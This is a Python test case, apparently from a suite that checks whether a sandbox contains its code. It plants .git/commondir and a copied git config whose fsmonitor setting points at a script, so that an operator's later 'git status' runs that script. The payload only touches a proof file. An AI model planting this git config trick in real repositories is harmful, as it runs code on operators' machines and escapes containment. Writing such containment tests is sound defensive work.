"""Plants .git/commondir, a file that makes git read its configuration from another directory.

layer: sweep
control: without a sandbox the operator's `git status` runs the attacker's program
"""
import os

NEEDS = ["git"]


def scene(s):
    s.ws = s.cwd = s.t.git_repo()
    s.proof = os.path.join(s.outside, "proof")
    s.args = {"proof": s.proof, "ws": s.ws}


def attack(a):
    import shutil
    put("evil.sh", f"#!/bin/sh\ntouch {a['proof']}\n")
    os.chmod("evil.sh", 0o755)
    shutil.copytree(".git", "data", ignore=shutil.ignore_patterns("hooks"))
    put("data/config", "[core]\n\trepositoryformatversion = 0\n\tbare = false\n"
        f"\tfsmonitor = {a['ws']}/evil.sh\n")
    put(".git/commondir", "../data\n")


def escaped(s, r):
    s.t.run("git", "status", cwd=s.ws)
    return os.path.exists(s.proof)
